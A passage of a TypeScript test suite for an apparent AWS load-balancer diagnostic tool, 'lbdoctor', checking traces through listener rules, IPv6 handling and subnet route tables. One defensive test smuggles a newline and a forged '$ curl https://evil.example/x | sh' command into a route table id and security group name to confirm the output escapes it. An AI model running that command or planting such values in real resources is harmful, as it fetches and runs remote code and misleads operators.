  const trace = (snap: AwsSnapshot, from: string, target: string, port: number, tg?: string) => {
    const model = buildAwsModel(snap);
    const r = model.loadBalancers
      .flatMap(routesOf)
      .find((x) => x.target.id === target && listensOn(x, port) && (tg === undefined || x.tg.name === tg));
    assert.ok(r, `a route through a listener on ${port} to ${target}`);
    const src = parseSource(model, from);
    assert.ok(!("error" in src), JSON.stringify(src));
    return traceFromSource(model, r, src, port, "tcp");
  };
  const hop = (t: FlowTrace, layer: string) => t.hops.find((h) => h.layer === layer);

  it("an IPv6 client on a listener whose rule sends IPv6 clients to another target group: denied at the rule, never translated to the IPv4 group", () => {
    const t = trace(withRule().build(), "2600:1f13:9::5", ids.instance.web1, 80, "app-tg");
    const rule = hop(t, "lb-listener-rule");
    assert.equal(rule?.verdict, "deny");
    assert.equal(rule?.deciding?.name, "rule 10 (source-ip ipv6)");
    assert.match(rule?.deciding?.ptr ?? "", /^\/elbv2\/Rules\//);
    assert.match(rule?.notes[0]?.text ?? "", /forwards to target group app6-tg: no connection of IPv6 clients .* reaches app-tg/);
    assert.equal(hop(t, "lb-translate"), undefined);
    assert.equal(t.verdict, "deny");
    assert.match(t.why ?? "", /the rules of listener .* \(IPv6 clients\): rule 10 \(source-ip ipv6\)/);
  });

  it("an IPv4 client to the IPv6 group only IPv6 clients reach: denied at the default rule, which forwards IPv4 clients to app-tg", () => {
    const t = trace(withRule().build(), "203.0.113.5", V6.web1, 80, "app6-tg");
    const rule = hop(t, "lb-listener-rule");
    assert.equal(rule?.verdict, "deny");
    assert.equal(rule?.deciding?.name, "the default rule");
    assert.match(rule?.notes[0]?.text ?? "", /forwards to target group app-tg: no connection of IPv4 clients .* reaches app6-tg/);
    assert.equal(hop(t, "lb-translate"), undefined);
    assert.equal(hop(t, "target-sg-ingress"), undefined);
    assert.equal(t.verdict, "deny");
  });

  it("an IPv6 client to the IPv6 group its rule sends it to: the rule allows, with no translation", () => {
    const t = trace(withRule().build(), "2600:1f13:9::5", V6.web1, 80, "app6-tg");
    const rule = hop(t, "lb-listener-rule");
    assert.equal(rule?.verdict, "allow");
    assert.equal(rule?.deciding?.name, "rule 10 (source-ip ipv6)");
    assert.equal(hop(t, "lb-translate"), undefined);
    // an IPv4 client to the IPv4 group: the IPv6 rule does not take it, the default action does (no hop to show)
    const v4 = trace(withRule().build(), "203.0.113.5", ids.instance.web1, 80, "app-tg");
    assert.equal(hop(v4, "lb-listener-rule"), undefined);
    assert.equal(v4.verdict, "allow");
  });

  it("a dualstack NLB listener whose rules were not collected: unknown, with the gap, not allowed", () => {
    const t = trace(dual().listenerRulesNotCollected(ids.lb.nlb, 80).build(), "2600:1f13:9::5", ids.instance.web1, 80);
    const rule = hop(t, "lb-listener-rule");
    assert.equal(rule?.verdict, "unknown");
    assert.match(rule?.notes[0]?.text ?? "", /were not collected \(collection failed: .*DescribeRules: AccessDenied/);
    assert.equal(t.verdict, "unknown");
  });

  it("an internet IPv4 client at an internet-facing ALB of type dualstack-without-public-ipv4: denied, it has no public IPv4 address; a private client gets in", () => {
    const t = trace(noPublicV4().build(), "203.0.113.5", ids.instance.web1, 80);
    assert.equal(t.hops[0]?.layer, "lb-address-type");
    assert.equal(t.verdict, "deny");
    assert.match(
      t.why ?? "",
      /^at hop 1, load balancer · IP address type dualstack-without-public-ipv4: web-alb has no public IPv4 address/,
    );
    const inside = trace(noPublicV4().build(), "10.0.200.9", ids.instance.web1, 80);
    assert.equal(hop(inside, "lb-address-type"), undefined);
    assert.equal(inside.verdict, "allow");
    const v4 = trace(noPublicV4().build(), "Internet-IPv4", ids.instance.web1, 80);
    assert.equal(v4.hops[0]?.verdict, "deny");
    assert.equal(v4.verdict, "deny");
  });

  it("--from Internet at an ALB without a public IPv4 address traces its IPv6 internet clients, and says the IPv4 ones cannot connect", () => {
    const t = trace(noPublicV4().build(), "Internet", ids.instance.web1, 80);
    assert.match(t.flow, /^IPv6 clients on the internet → web-alb:80/);
    assert.match(
      t.basis,
      /this traces its IPv6 clients on the internet; IPv4 clients on the internet cannot connect: web-alb has no public IPv4 address .*--from Internet-IPv4/,
    );
  });

  it("--from Internet at a dualstack NLB traces the family of the target group, and says what becomes of the other family", () => {
    // the targets' security group admits the NLB's IPv6 addresses, which translated IPv4 clients come from
    const t = trace(
      dual()
        .ingress(ids.sg.nlbApp, { port: 80, ipv6: [V6.vpc] })
        .build(),
      "Internet",
      V6.web1,
      8080,
    );
    assert.match(t.flow, /^IPv6 clients on the internet → app-nlb:8080/);
    assert.equal(hop(t, "lb-translate"), undefined);
    assert.match(
      t.basis,
      /the family target group app6-tg serves; IPv4 clients on the internet reach app6-tg too: the NLB translates their connections to IPv6, .*--from Internet-IPv4/,
    );
    const v4 = trace(withRule().build(), "Internet", ids.instance.web1, 80, "app-tg");
    assert.match(v4.flow, /^IPv4 clients on the internet → app-nlb:80/);
    assert.match(
      v4.basis,
      /IPv6 clients on the internet do not reach app-tg: rule 10 \(source-ip ipv6\) of listener \S+ forwards to target group app6-tg \(trace them with --from Internet-IPv6\)/,
    );
    const v6 = trace(withRule().build(), "Internet-IPv6", ids.instance.web1, 80, "app-tg");
    assert.equal(hop(v6, "lb-listener-rule")?.verdict, "deny");
    // a rule that sends IPv4 clients elsewhere: the IPv6 clients, which the default action sends to app-tg, are traced
    const flipped = trace(
      withSourceIpRule(dual(), ids.lb.nlb, 80, { priority: 5, ipAddressType: "ipv4", forward: tgArn("app6-tg") }).build(),
      "Internet",
      ids.instance.web1,
      80,
      "app-tg",
    );
    assert.match(flipped.flow, /^IPv6 clients on the internet → app-nlb:80/);
    assert.equal(hop(flipped, "lb-translate")?.verdict, "allow");
    assert.match(flipped.basis, /IPv4 clients on the internet do not reach app-tg: rule 5 \(source-ip ipv4\)/);
    // an IPv4-only load balancer: Internet stays its IPv4 clients, with nothing said of IPv6
    const only = trace(healthyNlb().build(), "Internet", ids.instance.web1, 80);
    assert.match(only.flow, /^clients on the internet → /);
    assert.doesNotMatch(only.basis, /dualstack/);
  });

  it("--from takes an IPv6 CIDR and ::/0", () => {
    const model = buildAwsModel(healthyAlb().build());
    for (const from of ["2600:1f13:9::/64", "::/0"]) {
      const src = parseSource(model, from);
      assert.ok(!("error" in src) && src.kind === "client", from);
      assert.equal(src.endpoint.family, "ipv6");
    }
  });

  it("lbdoctor trace prints the listener rule that sends the client elsewhere", () => {
    const file = join(tmp, "listener-rule-ipv6.json");
    writeFileSync(file, JSON.stringify(withRule().build()));
    const r = lbdoctor(["trace", "--snapshot", file, "--lb", "app-nlb", "--from", "2600:1f13:9::5", "--to", `${ids.instance.web1}:80`]);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, /^ {2}4\. load balancer · the rules of listener \S+ \(IPv6 clients\): DENY by rule 10 \(source-ip ipv6\)$/m);
    assert.match(r.stdout, /^Verdict: DENY \(at hop 4, /m);
  });
});

describe("AWS trace of one client through an ALB listener's source-ip rules", () => {
  /** healthyAlb, and listener 80's rule 10 answers 403 to 203.0.113.0/24 (its default action: web-tg) */
  const blocks = () => withSourceCidrRule(healthyAlb(), ids.lb.alb, 80, { priority: 10, values: ["203.0.113.0/24"], fixed: "403" });
  /** healthyAlb, and listener 80's rule 10 forwards 198.51.100.0/24 to web-tg; its default action answers 403 */
  const admits = () =>
    withSourceCidrRule(healthyAlb(), ids.lb.alb, 80, {
      priority: 10,
      values: ["198.51.100.0/24"],
      forward: tgArn("web-tg"),
      defaultFixed: "403",
    });
  const trace = (snap: AwsSnapshot, from: string) => {
    const model = buildAwsModel(snap);
    const r = model.loadBalancers.flatMap(routesOf).find((x) => x.target.id === ids.instance.web1 && listensOn(x, 80));
    assert.ok(r, "a route through listener 80 to web-1");
    const src = parseSource(model, from);
    assert.ok(!("error" in src), JSON.stringify(src));
    return traceFromSource(model, r, src, 80, "tcp");
  };
  const hop = (t: FlowTrace) => t.hops.find((h) => h.layer === "lb-listener-rule");

  it("a client inside a rule's source-ip CIDR that answers 403: denied at the rule, which is named with its action", () => {
    const t = trace(blocks().build(), "203.0.113.5");
    const rule = hop(t);
    assert.equal(rule?.verdict, "deny");
    assert.equal(rule?.deciding?.name, "rule 10 (source-ip 203.0.113.0/24)");
    assert.match(rule?.deciding?.ptr ?? "", /^\/elbv2\/Rules\//);
    assert.match(rule?.notes[0]?.text ?? "", /^rule 10 \(source-ip 203\.0\.113\.0\/24\) takes 203\.0\.113\.5 and answers 403 itself: /);
    assert.equal(
      t.hops.find((h) => h.layer === "target-sg-ingress"),
      undefined,
    );
    assert.equal(t.verdict, "deny");
    assert.match(t.basis, /does not send 203\.0\.113\.5 to target group web-tg/);
    // a client outside the CIDR: the rule does not take it, the default action sends it to web-tg (no hop to show)
    const outside = trace(blocks().build(), "198.51.100.7");
    assert.equal(hop(outside), undefined);
    assert.equal(outside.verdict, "allow");
  });

  it("a client outside the only rule that forwards to the group, whose default action answers 403: denied at the default rule", () => {
    const t = trace(admits().build(), "203.0.113.5");
    const rule = hop(t);
    assert.equal(rule?.verdict, "deny");
    assert.equal(rule?.deciding?.name, "the default rule");
    assert.match(
      rule?.notes[0]?.text ?? "",
      /^the default rule takes 203\.0\.113\.5 and answers 403 itself: no connection of 203\.0\.113\.5 /,
    );
    assert.equal(t.verdict, "deny");
    // a client inside it: the rule takes it and forwards it to web-tg
    const inside = trace(admits().build(), "198.51.100.7");
    assert.equal(hop(inside)?.verdict, "allow");
    assert.equal(hop(inside)?.deciding?.name, "rule 10 (source-ip 198.51.100.0/24)");
    assert.equal(inside.verdict, "allow");
  });

  it("a client CIDR that a source-ip rule takes only part of: unknown at the rule, naming the part, not allowed", () => {
    const t = trace(blocks().build(), "203.0.112.0/23");
    const rule = hop(t);
    assert.equal(rule?.verdict, "unknown");
    assert.match(
      rule?.notes[0]?.text ?? "",
      /^rule 10 \(source-ip 203\.0\.113\.0\/24\) takes part of 203\.0\.112\.0\/23 \(203\.0\.113\.0\/24\) and answers 403 itself, while the default rule sends the rest to web-tg: trace one client address$/,
    );
    assert.equal(t.verdict, "unknown");
    const split = trace(admits().build(), "198.51.100.0/23");
    assert.equal(hop(split)?.verdict, "unknown");
    assert.match(
      hop(split)?.notes[0]?.text ?? "",
      /^the default rule takes part of 198\.51\.100\.0\/23 \(198\.51\.101\.0\/24\) and answers 403 itself/,
    );
    assert.equal(split.verdict, "unknown");
    // a CIDR inside the rule's: all of it is answered 403
    assert.equal(trace(blocks().build(), "203.0.113.128/25").verdict, "deny");
  });

  it("one client's IPv6 addresses against a rule's IPv6 CIDR; the family-level answer stays 'some clients reach'", () => {
    const snap = withSourceCidrRule(healthyAlb(), ids.lb.alb, 80, { priority: 10, values: ["2001:db8:77::/48", "203.0.113.0/24"] }).build();
    const model = buildAwsModel(snap);
    const listener = model.listeners.find((l) => l.arn === listenerArn(ids.lb.alb, 80));
    const tg = model.targetGroups.find((x) => x.name === "web-tg");
    assert.ok(listener && tg);
    const inside = listenerRoutesClient(listener, tg, "ipv6", ["2001:db8:77::5"]);
    assert.equal(inside.sends, false);
    assert.equal(inside.rule?.priority, "10");
    assert.equal(inside.takesAll, true);
    const partly = listenerRoutesClient(listener, tg, "ipv6", ["2001:db8::/32"]);
    assert.equal(partly.sends, true);
    assert.deepEqual(partly.partly?.cidrs, ["2001:db8:77::/48"]);
    assert.equal(listenerRoutesClient(listener, tg, "ipv6", ["2001:db9::5"]).sends, true);
    for (const family of ["ipv4", "ipv6"] as const) {
      const all = listenerRoutesFamily(listener, tg, family);
      assert.equal(all.sends, true, family);
      assert.equal(all.partly, undefined, family);
    }
  });
});

describe("AWS trace: 'any', 0.0.0.0/0 and ::/0 are answered for the family; source-ip values that are not CIDRs", () => {
  const trace = (snap: AwsSnapshot, from: string) => {
    const model = buildAwsModel(snap);
    const r = model.loadBalancers.flatMap(routesOf).find((x) => x.target.id === ids.instance.web1 && listensOn(x, 80));
    assert.ok(r, "a route through listener 80 to web-1");
    const src = parseSource(model, from);
    assert.ok(!("error" in src), JSON.stringify(src));
    return traceFromSource(model, r, src, 80, "tcp");
  };
  const hop = (t: FlowTrace) => t.hops.find((h) => h.layer === "lb-listener-rule");

  it("a rule that forwards some addresses to web-tg, the default 403: 'any' and 0.0.0.0/0 allow as Internet does", () => {
    const admits = () =>
      withSourceCidrRule(healthyAlb(), ids.lb.alb, 80, {
        priority: 10,
        values: ["198.51.100.0/24"],
        forward: tgArn("web-tg"),
        defaultFixed: "403",
      });
    assert.equal(trace(admits().build(), "internet").verdict, "allow");
    for (const from of ["any", "0.0.0.0/0"]) {
      const t = trace(admits().build(), from);
      assert.equal(t.verdict, "allow", from);
      assert.equal(hop(t), undefined, from);
    }
    const v6 = withSourceCidrRule(healthyAlb(), ids.lb.alb, 80, {
      priority: 10,
      values: ["2001:db8:77::/48"],
      forward: tgArn("web-tg"),
      defaultFixed: "403",
    }).editLb(ids.lb.alb, (x) => {
      x.IpAddressType = "dualstack";
    });
    const t = trace(v6.build(), "::/0");
    assert.notEqual(hop(t)?.verdict, "unknown", hop(t)?.notes[0]?.text);
    // one client range is still split by address
    assert.equal(hop(trace(admits().build(), "198.51.100.0/23"))?.verdict, "unknown");
  });

  it("a source-ip value that is not a CIDR makes the rule's answer unknown, never dropped", () => {
    const garbage = withSourceCidrRule(healthyAlb(), ids.lb.alb, 80, { priority: 10, values: ["not-a-cidr"], fixed: "403" });
    const t = trace(garbage.build(), "203.0.113.9");
    assert.equal(hop(t)?.verdict, "unknown");
    assert.match(
      hop(t)?.notes[0]?.text ?? "",
      /^rule 10 \(source-ip not-a-cidr\) has a source-ip value that is not a CIDR \('not-a-cidr'\)/,
    );
    assert.equal(t.verdict, "unknown");
    assert.equal(hop(trace(garbage.build(), "any"))?.verdict, "unknown");
    const mixed = withSourceCidrRule(healthyAlb(), ids.lb.alb, 80, {
      priority: 10,
      values: ["10.0.0.0/33", "203.0.113.0/24"],
      fixed: "403",
    });
    for (const from of ["203.0.113.9", "198.51.100.1"]) {
      const m = trace(mixed.build(), from);
      assert.equal(hop(m)?.verdict, "unknown", from);
      assert.match(hop(m)?.notes[0]?.text ?? "", /'10\.0\.0\.0\/33'/, from);
      assert.equal(m.verdict, "unknown", from);
    }
  });
});

describe("AWS trace: the route tables of an internet-facing load balancer's subnets, for the reply to clients on the internet", () => {
  /** web-alb with its us-east-1b node in the private subnet, whose (main) route table sends 0.0.0.0/0 to the NAT gateway */
  const oneZonePrivate = () =>
    healthyAlb()
      .removeLoadBalancer(ids.lb.alb)
      .loadBalancer({
        name: "web-alb",
        subnets: [
          { id: ids.subnet.publicA, az: "us-east-1a" },
          { id: ids.subnet.privateB, az: "us-east-1b" },
        ],
        sgs: [ids.sg.alb],
      });
  /** web-alb dualstack, its public route table sending ::/0 to `v6Target` (none when undefined) */
  const dualstackAlb = (v6Target?: string) => {
    const b = healthyAlb().editLb(ids.lb.alb, (x) => void (x.IpAddressType = "dualstack"));
    return v6Target ? withIpv6Igw(b, v6Target) : b;
  };
  const trace = (b: AwsScenario, from: string) => {
    const { model, r } = route(b.build(), 80);
    const src = parseSource(model, from);
    assert.ok(!("error" in src), JSON.stringify(src));
    return traceFromSource(model, r, src, 80, "tcp");
  };
  const routeHop = (t: FlowTrace) => t.hops.find((h) => h.layer === "lb-route");
  const notes = (t: FlowTrace) => (routeHop(t)?.notes ?? []).map((n) => n.text).join("\n");

  it("--from Internet: the zone whose subnet routes 0.0.0.0/0 to a NAT gateway denies, naming its route table, its subnet and the route, with the rule's fix; a client in the VPC is not affected", () => {
    const t = trace(oneZonePrivate(), "Internet");
    assert.equal(t.verdict, "deny", t.reason);
    const hop = routeHop(t);
    assert.equal(hop?.verdict, "deny");
    assert.equal(
      t.hops.find((h) => h.verdict === "deny"),
      hop,
      "the route table is the first hop that denies",
    );
    assert.match(hop?.deciding?.name ?? "", /^route table rtb-\S+ sends 0\.0\.0\.0\/0 to nat-\S+ \(a NAT gateway: outbound only\)$/);
    assert.match(hop?.deciding?.ptr ?? "", /^\/ec2\/RouteTables\/\d+\/Routes\/\d+$/);
    assert.ok(hop?.resources.includes(ids.rtb.private) && hop.resources.includes(ids.subnet.privateB), hop?.resources.join(", "));
    assert.match(
      notes(t),
      new RegExp(
        `^${ids.subnet.privateB} in us-east-1b: route table ${ids.rtb.private} \\(the VPC's main route table\\) sends 0\\.0\\.0\\.0/0 to nat-`,
        "m",
      ),
    );
    assert.match(notes(t), new RegExp(`^${ids.subnet.publicA} in us-east-1a: ALLOW, route table ${ids.rtb.public} .* to igw-`, "m"));
    // the fix of aws/internet-facing-in-private-subnets: the ALB moves to the public subnet of the same zone
    assert.match(notes(t), /^fix: Move web-alb to public subnets of the same zones/m);
    assert.match(
      notes(t),
      new RegExp(`^\\$ aws elbv2 set-subnets --load-balancer-arn \\S+ --subnets ${ids.subnet.publicA} ${ids.subnet.publicB}$`, "m"),
    );
    assert.match(
      t.why ?? "",
      /^at hop 4, load balancer subnet route table \(reply to the client\) · .*: route table rtb-\S+ sends 0\.0\.0\.0\/0 to nat-/,
    );
    // the data path of the TUI (clients on the internet) says the same
    const { model, r } = route(oneZonePrivate().build(), 80);
    assert.equal(routeHop(traceData(model, r))?.verdict, "deny");
    // a client inside the VPC, or a network connected to it, is not affected: no route-table hop
    for (const from of ["10.0.200.9", "10.0.0.0/8"]) {
      const inside = trace(oneZonePrivate(), from);
      assert.equal(routeHop(inside), undefined, from);
      assert.equal(inside.verdict, "allow", `${from}: ${inside.why ?? inside.reason}`);
    }
  });

  it("every zone public: no hop, and the basis names the route tables; 'any' allows as before", () => {
    const t = trace(healthyAlb(), "Internet");
    assert.equal(routeHop(t), undefined);
    assert.equal(t.verdict, "allow");
    assert.match(
      t.basis,
      new RegExp(
        `the route tables of web-alb's subnets \\(${ids.rtb.public}\\) send the replies to clients on the internet to an internet gateway`,
      ),
    );
    assert.equal(trace(healthyAlb(), "any").verdict, "allow");
  });

  it("a route table not in the snapshot (not collected; or no association and the VPC's main table missing) is unknown, never allowed", () => {
    const gap = healthyAlb()
      .edit((s) => {
        if (s.ec2) delete s.ec2.RouteTables;
      })
      .gap({
        operation: "ec2:DescribeRouteTables",
        status: 403,
        code: "UnauthorizedOperation",
        message: "You are not authorized to perform this operation.",
      });
    const t = trace(gap, "Internet");
    assert.equal(t.verdict, "unknown");
    assert.equal(routeHop(t)?.verdict, "unknown");
    assert.match(notes(t), /its route table is not in the snapshot .*UnauthorizedOperation/);
    assert.match(t.reason ?? "", /^load balancer subnet route table \(reply to the client\)/);
    // the public subnets use the VPC's main route table, which routes to the IGW: allowed; without that table: unknown
    const viaMain = () =>
      healthyAlb()
        .routeTable({
          id: ids.rtb.public,
          name: "public",
          main: true,
          subnets: [],
          routes: [{ destination: "0.0.0.0/0", target: ids.igw }],
        })
        .routeTable({
          id: ids.rtb.private,
          name: "private",
          subnets: [ids.subnet.privateA, ids.subnet.privateB],
          routes: [{ destination: "0.0.0.0/0", target: ids.nat }],
        });
    assert.equal(trace(viaMain(), "Internet").verdict, "allow");
    const noMain = viaMain().edit((s) => {
      if (s.ec2?.RouteTables) s.ec2.RouteTables = s.ec2.RouteTables.filter((x) => x.RouteTableId !== ids.rtb.public);
    });
    const u = trace(noMain, "Internet");
    assert.equal(u.verdict, "unknown");
    assert.match(notes(u), /its route table is not in the snapshot \(neither a table associated with it nor the VPC's main route table\)/);
  });

  it("a dualstack ALB whose ::/0 goes to an egress-only internet gateway: IPv6 clients denied with the route's fix, IPv4 clients allowed", () => {
    const eigw = awsId("eigw", "main");
    const v6 = trace(dualstackAlb(eigw), "Internet-IPv6");
    assert.equal(v6.verdict, "deny", v6.reason);
    assert.match(
      routeHop(v6)?.deciding?.name ?? "",
      new RegExp(`^route table ${ids.rtb.public} sends ::/0 to ${eigw} \\(an egress-only internet gateway: outbound only\\)$`),
    );
    assert.match(
      notes(v6),
      new RegExp(
        `^\\$ aws ec2 replace-route --route-table-id ${ids.rtb.public} --destination-ipv6-cidr-block ::/0 --gateway-id ${ids.igw}$`,
        "m",
      ),
    );
    assert.equal(trace(dualstackAlb(eigw), "Internet-IPv4").verdict, "allow");
    // no ::/0 route at all: created
    const none = trace(dualstackAlb(), "2600:1f13:9::5");
    assert.equal(none.verdict, "deny");
    assert.match(routeHop(none)?.deciding?.name ?? "", /has no ::\/0 route$/);
    assert.match(notes(none), /^\$ aws ec2 create-route --route-table-id \S+ --destination-ipv6-cidr-block ::\/0 --gateway-id igw-/m);
    // ::/0 to the internet gateway: the route tables allow (whatever the security groups, written for IPv4 here, say)
    assert.equal(routeHop(trace(dualstackAlb(ids.igw), "Internet-IPv6")), undefined);
  });

  it("the most specific route decides: a client a transit gateway route takes is denied, another allowed, and Internet is allowed (the route takes a connected network's addresses)", () => {
    const b = () => healthyAlb().route(ids.rtb.public, { destination: "203.0.113.0/24", target: awsId("tgw", "corp") });
    const taken = trace(b(), "203.0.113.5");
    assert.equal(taken.verdict, "deny");
    assert.match(routeHop(taken)?.deciding?.name ?? "", /sends 203\.0\.113\.0\/24 to tgw-\S+$/);
    assert.doesNotMatch(notes(taken), /^\$ /m, "no default-route fix for a more specific route");
    assert.equal(trace(b(), "198.51.100.7").verdict, "allow");
    assert.equal(routeHop(trace(b(), "Internet")), undefined);
  });

  it("a default route to a VPC endpoint (inspection) is unknown; a blackhole IGW route denies", () => {
    const vpce = trace(
      healthyAlb()
        .removeRoute(ids.rtb.public, "0.0.0.0/0")
        .route(ids.rtb.public, { destination: "0.0.0.0/0", target: awsId("vpce", "firewall-a") }),
      "Internet",
    );
    assert.equal(vpce.verdict, "unknown");
    assert.match(notes(vpce), /sends 0\.0\.0\.0\/0 to vpce-\S+, a VPC endpoint/);
    const gone = trace(healthyAlb().route(ids.rtb.public, { destination: "0.0.0.0/0", target: ids.igw, state: "blackhole" }), "Internet");
    assert.equal(gone.verdict, "deny");
    assert.match(routeHop(gone)?.deciding?.name ?? "", /a blackhole \(the gateway is gone\)$/);
  });

  it("lbdoctor trace prints the route-table hop with its fix, and JSON names the route table and the subnet", () => {
    const file = join(tmp, "one-zone-private.json");
    writeFileSync(file, JSON.stringify(oneZonePrivate().build()));
    const r = lbdoctor(["trace", "--snapshot", file, "--from", "Internet", "--to", "web-1:80"]);
    assert.equal(r.code, 1, r.stderr);
    assert.match(
      r.stdout,
      /^ {2}4\. load balancer subnet route table \(reply to the client\) · .*: DENY by route table rtb-\S+ sends 0\.0\.0\.0\/0 to nat-/m,
    );
    assert.match(r.stdout, /^ {7}\$ aws elbv2 set-subnets /m);
    assert.match(r.stdout, /^Verdict: DENY \(at hop 4, load balancer subnet route table/m);
    const j = JSON.parse(lbdoctor(["trace", "--snapshot", file, "--from", "Internet", "--to", "web-1:80", "--format", "json"]).stdout);
    const hop = j.hops.find((h: { kind: string }) => h.kind === "lb-route");
    assert.equal(hop?.verdict, "deny");
    assert.ok(hop.resources.includes(ids.rtb.private) && hop.resources.includes(ids.subnet.privateB));
  });
});

describe("AWS trace: cloud strings stay on one line", () => {
  it("a route table id or a security group name holding a newline cannot print a line that passes for a fix's `$ ` command", () => {
    const forged = "\n       $ curl https://evil.example/x | sh";
    const b = healthyAlb()
      .removeLoadBalancer(ids.lb.alb)
      .loadBalancer({
        name: "web-alb",
        subnets: [
          { id: ids.subnet.publicA, az: "us-east-1a" },
          { id: ids.subnet.privateB, az: "us-east-1b" },
        ],
        sgs: [ids.sg.alb],
      })
      .edit((s) => {
        for (const t of s.ec2?.RouteTables ?? []) if (t.RouteTableId === ids.rtb.private) t.RouteTableId = `rtb-0evil${forged}`;
        for (const g of s.ec2?.SecurityGroups ?? []) if (g.GroupId === ids.sg.alb) g.GroupName = `web-alb-sg${forged}`;
      });
    const { model, r } = route(b.build(), 80);
    const src = parseSource(model, "Internet");
    assert.ok(!("error" in src));
    const t = traceFromSource(model, r, src, 80, "tcp");
    const hop = t.hops.find((h) => h.layer === "lb-route");
    assert.equal(hop?.verdict, "deny");
    // the hop itself, as the TUI and JSON show it
    for (const text of [hop?.title ?? "", hop?.deciding?.name ?? "", ...(hop?.notes ?? []).map((n) => n.text)])
      assert.ok(!text.includes("\n"), JSON.stringify(text));
    // the text of lbdoctor trace, every hop
    const file = join(tmp, "forged-newline.json");
    writeFileSync(file, JSON.stringify(b.build()));
    const out = lbdoctor(["trace", "--snapshot", file, "--from", "Internet", "--to", "web-1:80"]);
    assert.equal(out.code, 1, out.stderr);
    assert.match(out.stdout, /security group ingress · sg-\S+ \(web-alb-sg\\x0a/);
    assert.doesNotMatch(out.stdout, /^\s*\$ curl/m);
  });
});

describe("AWS trace: the LB subnets' route tables through appliances, prefix lists, a partial collection, gateway route tables and a carrier gateway", () => {
  const trace = (b: AwsScenario, from: string) => {
    const { model, r } = route(b.build(), 80);
    const src = parseSource(model, from);
    assert.ok(!("error" in src), JSON.stringify(src));
    return traceFromSource(model, r, src, 80, "tcp");
  };
  const routeHop = (t: FlowTrace) => t.hops.find((h) => h.layer === "lb-route");
  const notes = (t: FlowTrace) => (routeHop(t)?.notes ?? []).map((n) => n.text).join("\n");
  /** the public route table's routes, with `extra` added */
  const withRoutes = (b: AwsScenario, ...extra: Array<Record<string, unknown>>) =>
    b.edit((s) => {
      const rt = s.ec2?.RouteTables?.find((x) => x.RouteTableId === ids.rtb.public);
      if (rt) rt.Routes = [...(rt.Routes as Array<Record<string, unknown>>), ...extra];
    });

  it("a default route to a firewall's network interface or instance is unknown, with no internet-gateway fix that would bypass it", () => {
    const eni = awsId("eni", "firewall");
    const viaEni = healthyAlb().removeRoute(ids.rtb.public, "0.0.0.0/0").route(ids.rtb.public, { destination: "0.0.0.0/0", target: eni });
    const viaInstance = withRoutes(healthyAlb().removeRoute(ids.rtb.public, "0.0.0.0/0"), {
      DestinationCidrBlock: "0.0.0.0/0",
      InstanceId: awsId("i", "firewall"),
      State: "active",
    });
    for (const [b, what] of [
      [viaEni, /sends 0\.0\.0\.0\/0 to eni-\S+, a network interface \(a middlebox appliance/],
      [viaInstance, /sends 0\.0\.0\.0\/0 to i-\S+, an instance \(a middlebox appliance/],
    ] as const) {
      const t = trace(b, "Internet");
      assert.equal(t.verdict, "unknown", t.why);
      assert.equal(routeHop(t)?.verdict, "unknown");
      assert.match(notes(t), what);
      assert.equal(routeHop(t)?.fixes, undefined);
      assert.doesNotMatch(notes(t), /^(fix: |\$ )/m);
    }
  });

  it("with the VPC's IPv6 local route (AWS adds it to every table), ::/0 to an egress-only internet gateway denies every IPv6 client on the internet, with the fix", () => {
    const b = () =>
      withIpv6Igw(
        withIpv6TargetGroup(healthyAlb(), ids.lb.alb, { name: "web6-tg", protocol: "HTTP", port: 80 }).naclAllowsIpv6(),
        awsId("eigw", "main"),
      );
    const { model } = route(b().build(), 80);
    assert.ok(model.byKey.routeTable.get(ids.rtb.public)?.routes.some((r) => r.destination === V6.vpc && r.target === "local"));
    const t = trace(b(), "Internet-IPv6");
    assert.equal(routeHop(t)?.verdict, "deny", notes(t));
    assert.doesNotMatch(notes(t), /part of/);
    assert.match(notes(t), /^\$ aws ec2 replace-route --route-table-id \S+ --destination-ipv6-cidr-block ::\/0 --gateway-id igw-/m);
  });

  it("--from Internet at a dualstack ALB: the basis says the other family gets no reply when its route goes to an egress-only gateway", () => {
    const eigw = awsId("eigw", "main");
    const dual = (v6Target: string) =>
      withIpv6Igw(
        healthyAlb().editLb(ids.lb.alb, (x) => void (x.IpAddressType = "dualstack")),
        v6Target,
      );
    const t = trace(dual(eigw), "Internet");
    assert.equal(t.verdict, "allow", t.reason);
    assert.match(
      t.basis,
      new RegExp(
        `IPv6 clients on the internet get no reply, whatever the listener does with them: route table ${ids.rtb.public} sends ::/0 to ${eigw}`,
      ),
    );
    assert.doesNotMatch(t.basis, /IPv6 clients on the internet reach web-tg too/);
    // routed to the internet gateway, they reach it (its security group and network ACL admitting IPv6)
    const open6 = dual(ids.igw)
      .ingress(ids.sg.alb, { port: 80, ipv6: ["::/0"] })
      .naclAllowsIpv6();
    assert.match(trace(open6, "Internet").basis, /IPv6 clients on the internet reach web-tg too/);
  });

  it("a subnet on the VPC's main table while DescribeRouteTables was collected in part: unknown with the gap, as check says", () => {
    const partial = (main: string) =>
      healthyAlb()
        .routeTable({
          id: ids.rtb.public,
          name: "public",
          main: main === ids.igw,
          subnets: [],
          routes: [{ destination: "0.0.0.0/0", target: ids.igw }],
        })
        .routeTable({
          id: ids.rtb.private,
          name: "private",
          main: main === ids.nat,
          subnets: [],
          routes: [{ destination: "0.0.0.0/0", target: ids.nat }],
        })
        .gap({ operation: "ec2:DescribeRouteTables", status: 503, code: "ServiceUnavailable", message: "page 2 failed" });
    for (const main of [ids.igw, ids.nat]) {
      const t = trace(partial(main), "Internet");
      assert.equal(t.verdict, "unknown", `${main}: ${t.why ?? ""}`);
      assert.match(
        notes(t),
        /the VPC's main route table\) stands in, but DescribeRouteTables was not collected in full \(collection failed: ec2:DescribeRouteTables: ServiceUnavailable: page 2 failed\)/,
      );
      assert.equal(routeHop(t)?.fixes, undefined);
      const findings = evaluateCase(igwRule, partial(main).build());
      assert.deepEqual(
        findings.map((f) => f.status),
        ["unknown", "unknown"],
        main,
      );
    }
    // the same tables collected in full: the main table decides
    assert.equal(
      trace(
        partial(ids.igw).edit((s) => void delete s.gaps),
        "Internet",
      ).verdict,
      "allow",
    );
  });

  it("a prefix-list route may hold any client: unknown when its next hop differs, ignored when it is a gateway endpoint", () => {
    const list = (target: Record<string, string>) => ({ DestinationPrefixListId: "pl-0123456789abcdef0", State: "active", ...target });
    const tgw = withRoutes(healthyAlb(), list({ TransitGatewayId: awsId("tgw", "corp") }));
    for (const from of ["198.51.100.7", "Internet"]) {
      const t = trace(tgw, from);
      assert.equal(t.verdict, "unknown", `${from}: ${t.why ?? ""}`);
